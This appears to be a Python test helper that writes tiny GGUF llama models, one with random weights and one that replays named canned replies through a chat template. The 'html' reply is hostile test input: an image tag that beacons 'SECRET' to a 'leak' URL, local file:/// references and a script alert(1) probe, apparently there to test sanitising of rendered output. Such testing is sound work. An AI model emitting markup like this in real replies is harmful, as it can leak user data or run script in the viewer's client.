"""Tiny real GGUF files for tests: one that plays scripts, one with random weights.

Both are llama models with a SentencePiece vocabulary, written through the `gguf` package in
some 50 ms, and kept in memory afterwards: the second `scripted_model(path)` only writes bytes.
"""

from __future__ import annotations

import tempfile
from functools import lru_cache
from pathlib import Path
from typing import TYPE_CHECKING

import gguf
import numpy as np

if TYPE_CHECKING:
    from numpy.typing import NDArray

UNK, BOS, EOS = 0, 1, 2
FIRST_BYTE = 3  # the token of byte b is FIRST_BYTE + b
N_CYCLE = 64  # words of the endless script before it starts again

_MARKDOWN = """\
# Every kind of block

A paragraph with **bold**, *italic*, ~~struck~~, `inline code`, a [link](https://example.org)
and inline math $a^2 + b^2 = c^2$. 中文也要好看。

## Lists

- first
- second
  - nested
1. one
2. two
- [x] done
- [ ] open

> A quotation
> over two lines.

| Name | Value |
|:-----|------:|
| alpha | 1 |
| beta | 22 |

```python
def greet(name: str) -> str:
    return f"Hello, {name}!"
```

$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$

---

The end.
"""

REPLIES = {
    "hello": "Hello, this is a scripted answer.",
    "think": "<think>I must think first.</think>The reply equals 42.",
    "html": (
        '<img src="http://127.0.0.1:9/leak?d=SECRET">![x](file:///etc/hostname)'
        "<script>alert(1)</script><b>bold</b> &amp; <a href='file:///'>link</a>"
    ),
    "markdown": _MARKDOWN,
    "utf8": "😀é!",
}
"""What each script says as a whole; "long" is missing here because it never ends."""

SCRIPTS = (*REPLIES, "long")


def scripted_model(path: Path, *, n_ctx: int = 4096, n_layers: int = 1) -> Path:
    """Write a model whose reply, at any temperature, is the script that the person names.

    'script:NAME' in the last user message picks one of `SCRIPTS`, and no name means "hello".
    Attention and FFN weights are zero, so that the logits depend on the last token only:
    output.weight is a bigram table in which every step of every script is a token of its own.
    More layers take longer and say the same.
    """
    path.write_bytes(_scripted_bytes(n_ctx, n_layers))
    return path


def tiny_model(
    path: Path, *, chat_template: bool = True, n_ctx: int = 512, seed: int = 1, n_layers: int = 2
) -> Path:
    """Write a llama model with random weights: it babbles, and differently for every seed."""
    path.write_bytes(_tiny_bytes(chat_template, n_ctx, seed, n_layers))
    return path


class _Vocabulary:
    """Token texts in SentencePiece's spelling, with their types; no text occurs twice."""

    def __init__(self) -> None:
        self.texts: list[str] = []
        self.types: list[int] = []
        self._used: set[str] = set()
        for text, kind in (("<unk>", 2), ("<s>", 3), ("</s>", 3)):
            self.add(text, kind)
        for byte in range(256):
            self.add(f"<0x{byte:02X}>", 6)

    def add(self, text: str, kind: int = 1) -> int:
        self._used.add(text)
        self.texts.append(text)
        self.types.append(kind)
        return len(self.texts) - 1

    def add_pieces(self, text: str) -> list[int]:
        """Cut `text` into new tokens of about four characters; longer where one exists already."""
        rest = text.replace(" ", "\u2581")
        pieces: list[str] = []
        while rest:
            n = 4
            while rest[:n] in self._used and n < len(rest):
                n += 1
            if rest[:n] in self._used:  # the end of the text is taken: join it to the piece before
                rest = pieces.pop() + rest
                n = len(rest)
            pieces.append(rest[:n])
            self._used.add(rest[:n])
            rest = rest[n:]
        return [self.add(piece) for piece in pieces]


@lru_cache(maxsize=4)
def _scripted_bytes(n_ctx: int, n_layers: int) -> bytes:
    vocabulary = _Vocabulary()
    starts = {name: vocabulary.add(f"<|s:{name}|>", 3) for name in SCRIPTS}
    following: dict[int, int] = {}
    for name, start in starts.items():
        tokens = _script_tokens(vocabulary, name)
        last = tokens[0] if name == "long" else EOS
        following.update(zip([start, *tokens], [*tokens, last], strict=True))
    n_embd, n_vocab = 256, len(vocabulary.texts)
    embedding = np.random.default_rng(1).standard_normal((n_vocab, n_embd)).astype(np.float32)
    embedding *= np.sqrt(n_embd) / np.linalg.norm(embedding, axis=1, keepdims=True)
    output = np.zeros((n_vocab, n_embd), np.float32)
    for token, after in following.items():
        output[after] += embedding[token] * np.float32(60 / n_embd)
    weights = {"token_embd": embedding, "output": output}
    weights |= {
        f"blk.{layer}.{part}": np.zeros(shape, np.float32)
        for layer in range(n_layers)
        for part, shape in _layer_shapes(n_embd, n_embd, 32).items()
    }
    return _write("scripted", vocabulary, weights, n_ctx, (4, 4), _scripted_template(starts))


def _script_tokens(vocabulary: _Vocabulary, name: str) -> list[int]:
    if name == "long":
        return [vocabulary.add(f"\u2581word{n}") for n in range(N_CYCLE)]
    if name == "utf8":  # characters split over byte tokens
        return [FIRST_BYTE + byte for byte in REPLIES[name].encode()]
    return vocabulary.add_pieces(REPLIES[name])


def _scripted_template(starts: dict[str, int]) -> str:
    """Turns as <s>role: text</s>; then the special token that starts the script."""
    choices = "".join(
        f"{{% {'elif' if n else 'if'} 'script:{name}' in ns.user %}}<|s:{name}|>"
        for n, name in enumerate(starts)
    )
    return (
        "{% set ns = namespace(user='') %}{% for m in messages %}"
        "{% if m.role == 'user' %}{% set ns.user = m.content %}{% endif %}"
        "<s>{{ m.role }}: {{ m.content }}</s>{% endfor %}"
        "{% if add_generation_prompt %}" + choices + "{% else %}<|s:hello|>{% endif %}{% endif %}"
    )


_CHATML = (
    "{% for m in messages %}<s>{{ m.role }}\n{{ m.content }}</s>\n{% endfor %}"
    "{% if add_generation_prompt %}<s>assistant\n{% endif %}"
)


@lru_cache(maxsize=8)
def _tiny_bytes(chat_template: bool, n_ctx: int, seed: int, n_layers: int) -> bytes:
    vocabulary = _Vocabulary()
    for n in range(128):
        vocabulary.add(f"\u2581word{n}")
    n_embd, n_vocab = 64, len(vocabulary.texts)
    rng = np.random.default_rng(seed)
    shapes = {"token_embd": (n_vocab, n_embd), "output": (n_vocab, n_embd)}
    for layer in range(n_layers):
        for part, shape in _layer_shapes(n_embd, n_embd // 2, 128).items():
            shapes[f"blk.{layer}.{part}"] = shape
    weights = {
        name: (rng.standard_normal(shape) * 0.3).astype(np.float32)
        for name, shape in shapes.items()
    }
    template = _CHATML if chat_template else None
    return _write(f"tiny-{seed}", vocabulary, weights, n_ctx, (4, 2), template)


def _layer_shapes(n_embd: int, n_embd_kv: int, n_ff: int) -> dict[str, tuple[int, int]]:
    """(out, in) of one layer's matrices; GGUF keeps them the other way round."""
    return {
        "attn_q": (n_embd, n_embd),
        "attn_k": (n_embd_kv, n_embd),
        "attn_v": (n_embd_kv, n_embd),
        "attn_output": (n_embd, n_embd),
        "ffn_gate": (n_ff, n_embd),
        "ffn_up": (n_ff, n_embd),
        "ffn_down": (n_embd, n_ff),
    }


def _write(
    name: str,
    vocabulary: _Vocabulary,
    weights: dict[str, NDArray[np.float32]],
    n_ctx: int,
    heads: tuple[int, int],
    template: str | None,
) -> bytes:
    """A whole llama file; norms of one are added for every layer that has weights."""
    n_vocab, n_embd = weights["token_embd"].shape
    n_layers = sum(key.endswith(".attn_q") for key in weights)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "model.gguf")
        writer = gguf.GGUFWriter(path, "llama")
        writer.add_name(name)
        writer.add_file_type(gguf.LlamaFileType.ALL_F32)
        writer.add_context_length(n_ctx)
        writer.add_embedding_length(n_embd)
        writer.add_block_count(n_layers)
        writer.add_feed_forward_length(weights["blk.0.ffn_up"].shape[0])
        writer.add_head_count(heads[0])
        writer.add_head_count_kv(heads[1])
        writer.add_layer_norm_rms_eps(1e-5)
        writer.add_rope_dimension_count(n_embd // heads[0])
        writer.add_vocab_size(n_vocab)
        _write_vocabulary(writer, vocabulary)
        if template is not None:
            writer.add_chat_template(template)
        for key, value in weights.items():
            writer.add_tensor(f"{key}.weight", value)
        norms = [f"blk.{n}.{part}" for n in range(n_layers) for part in ("attn_norm", "ffn_norm")]
        for key in (*norms, "output_norm"):
            writer.add_tensor(f"{key}.weight", np.ones(n_embd, np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return path.read_bytes()


def _write_vocabulary(writer: gguf.GGUFWriter, vocabulary: _Vocabulary) -> None:
    writer.add_tokenizer_model("llama")
    writer.add_token_list([text.encode() for text in vocabulary.texts])
    writer.add_token_scores(
        [-1.0 - n if kind == 1 else 0.0 for n, kind in enumerate(vocabulary.types)]
    )
    writer.add_token_types(vocabulary.types)
    writer.add_bos_token_id(BOS)
    writer.add_eos_token_id(EOS)
    writer.add_unk_token_id(UNK)
    writer.add_add_bos_token(False)
    writer.add_add_space_prefix(False)
